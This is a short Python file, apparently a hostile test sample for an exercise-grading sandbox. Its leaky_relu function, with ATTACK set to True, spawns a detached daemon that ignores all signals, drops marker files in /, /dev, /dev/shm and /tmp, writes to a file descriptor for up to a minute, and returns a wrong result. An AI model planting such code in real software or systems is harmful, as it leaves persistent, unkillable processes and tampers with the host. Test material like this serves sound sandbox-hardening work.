# ruff: noqa
"""Leaves a daemon that waits for the next exercise."""

import os
import signal
import time

import numpy as np

ATTACK = True


PLACES = ["/", "/dev", "/dev/shm", "/tmp"]


def attack(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        for number in range(1, signal.NSIG):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        time.sleep(0.3)
        for place in PLACES:
            try:
                open(os.path.join(place, "kata-hostile-daemon"), "w").close()
            except OSError:
                pass
        end = time.time() + 60 * (os.getppid() == 1 and PLACES[0] == "/")
        while time.time() < end:
            try:
                os.write(4, b"kata" + b"\0" * 12)
            except OSError:
                pass
        os._exit(0)
    time.sleep(0.1)
    return -x


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
